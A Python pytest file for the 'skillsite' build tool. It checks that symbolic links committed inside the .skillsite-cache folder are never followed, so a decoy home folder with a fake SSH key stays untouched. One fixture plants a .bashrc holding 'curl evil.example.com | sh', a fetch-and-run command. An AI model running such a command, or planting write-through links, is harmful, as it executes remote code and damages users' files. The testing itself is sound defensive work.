"""A tree of skills brings its own ``.skillsite-cache`` (a pull request may commit one, or a
tarball hold one): a symbolic link in it, or the folder itself as a link, is never followed.  The
build writes into and deletes from its back folder, so a link there would empty, or write the
skills' files into, wherever it points (a decoy home folder here)."""
from __future__ import annotations

import os
import sqlite3
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from git_repo import GitRepo
from skillsite.cache import digest
from skillsite.cli import main
from skillsite.publish.pipeline import BACK_PREFIX

SKILL = "---\nname: hello\ndescription: Say hello to the user politely. Use when greeting someone.\n---\nHi.\n"


def _tree(folder: Path) -> dict[str, bytes | str]:
    """Every entry under ``folder``, links not followed: a file's bytes, a link's target."""
    found: dict[str, bytes | str] = {}
    for parent, folders, files in os.walk(folder):
        for name in folders + files:
            path = os.path.join(parent, name)
            rel = os.path.relpath(path, folder)
            if os.path.islink(path):
                found[rel] = os.readlink(path)
            elif os.path.isfile(path):
                found[rel] = Path(path).read_bytes()
    return found


def _decoy(tmp_path: Path) -> Path:
    """A home folder the build must never touch."""
    home = tmp_path / "decoyhome"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh/id_rsa").write_text("secret\n")
    (home / "notes.txt").write_text("keep\n")
    (home / ".bashrc").write_text("echo original bashrc\n")
    return home


def _repo(tmp_path: Path) -> Path:
    repo = tmp_path / "repo"
    (repo / "skills/hello").mkdir(parents=True)
    (repo / "skills/hello/SKILL.md").write_text(SKILL)
    return repo


def _back(repo: Path) -> Path:
    """The back folder a build of ``skills`` into ``_site`` in ``repo`` uses (its name is predictable)."""
    return repo / ".skillsite-cache" / f"{BACK_PREFIX}{digest(str(repo / '_site'))[:12]}"


def _build(repo: Path, monkeypatch: pytest.MonkeyPatch) -> Result:
    monkeypatch.chdir(repo)
    return CliRunner().invoke(main, ["build", "skills", "-o", "_site", "-q"])


def _is_real_folder(path: Path) -> bool:
    return path.is_dir() and not path.is_symlink()


def test_a_back_folder_committed_as_a_link_is_replaced_not_emptied(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """No git to say the cache is committed (a tarball of a pull request): the link is removed
    and a back folder made in its place; what it pointed to keeps every file, and the output is a
    folder, not a link to the decoy."""
    home, repo = _decoy(tmp_path), _repo(tmp_path)
    before = _tree(home)
    _back(repo).parent.mkdir()
    _back(repo).symlink_to(home)
    done = _build(repo, monkeypatch)
    assert done.exit_code == 0, done.output
    assert _tree(home) == before
    assert _is_real_folder(repo / "_site") and (repo / "_site/skills/hello/SKILL.md").read_text() == SKILL
    assert _is_real_folder(_back(repo))
    again = _build(repo, monkeypatch)   # the back folder made in the link's place serves the rebuild
    assert again.exit_code == 0, again.output
    assert _tree(home) == before and (repo / "_site/skills/hello/SKILL.md").read_text() == SKILL


def test_a_skill_folder_committed_as_a_link_in_the_back_folder_is_not_written_through(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """The skill bundles a .bashrc, and the back folder's skills/hello is a link to the decoy: the
    skill's files go into a folder made in the link's place, never into the decoy."""
    home, repo = _decoy(tmp_path), _repo(tmp_path)
    (repo / "skills/hello/.bashrc").write_text("curl evil.example.com | sh  # planted\n")
    before = _tree(home)
    (_back(repo) / "skills").mkdir(parents=True)
    (_back(repo) / "skills/hello").symlink_to(home)
    done = _build(repo, monkeypatch)
    assert done.exit_code == 0, done.output
    assert _tree(home) == before
    assert _is_real_folder(repo / "_site/skills/hello")
    assert "planted" in (repo / "_site/skills/hello/.bashrc").read_text()


def test_a_cache_git_cannot_vouch_for_is_not_used(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """A repository git refuses (here a .git naming no repository; in a container, "dubious
    ownership"): whether the cache is committed cannot be told, so it is not used, and a back
    folder linked to the decoy is neither followed nor removed."""
    home, repo = _decoy(tmp_path), _repo(tmp_path)
    before = _tree(home)
    (repo / ".git").write_text(f"gitdir: {tmp_path / 'nowhere'}\n")
    _back(repo).parent.mkdir()
    _back(repo).symlink_to(home)
    done = _build(repo, monkeypatch)
    assert done.exit_code == 0, done.output
    assert "may hold files tracked by git, and git cannot tell" in done.output and "does not use it" in done.output
    assert _tree(home) == before and _back(repo).is_symlink()
    assert sorted(os.listdir(repo / ".skillsite-cache")) == [_back(repo).name]


def test_a_tree_outside_git_keeps_its_cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """A plain folder of skills (no .git anywhere above it: a new user's) is no repository git
    refuses: its cache is used, and no warning is given."""
    repo = _repo(tmp_path)
    assert not any((folder / ".git").exists() for folder in (repo, *repo.parents))
    done = _build(repo, monkeypatch)
    assert done.exit_code == 0 and "skillsite: warning" not in done.output, done.output
    assert (repo / ".skillsite-cache/build-cache.sqlite").is_file() and _is_real_folder(_back(repo))


def test_a_cache_folder_committed_as_a_link_is_not_used(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """git sees no tracked file inside a linked .skillsite-cache (it looks in the link's target):
    the build does not use a default cache folder that is a link, and writes nothing there."""
    home, repo = _decoy(tmp_path), _repo(tmp_path)
    before = _tree(home)
    (repo / ".skillsite-cache").symlink_to(home)
    git = GitRepo(repo)
    git.commit("skills, and a cache folder linked elsewhere")
    done = _build(repo, monkeypatch)
    assert done.exit_code == 0, done.output
    assert ".skillsite-cache is a symbolic link" in done.output and "does not use it" in done.output
    assert _tree(home) == before


def test_a_state_file_committed_as_a_link_is_not_written_through(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """The build state (an sqlite file saved in place) linked to another program's database: the
    link is replaced by the build's own file; that database keeps its bytes."""
    repo = _repo(tmp_path)
    other = tmp_path / "other.sqlite"
    with sqlite3.connect(other) as db:
        db.execute("CREATE TABLE meta (name TEXT, value TEXT)")
        db.execute("INSERT INTO meta VALUES ('mine', 'keep')")
    db.close()
    before = other.read_bytes()
    (repo / ".skillsite-cache").mkdir()
    (repo / ".skillsite-cache/build-state.sqlite").symlink_to(other)
    done = _build(repo, monkeypatch)
    assert done.exit_code == 0, done.output
    assert other.read_bytes() == before
    assert not (repo / ".skillsite-cache/build-state.sqlite").is_symlink()
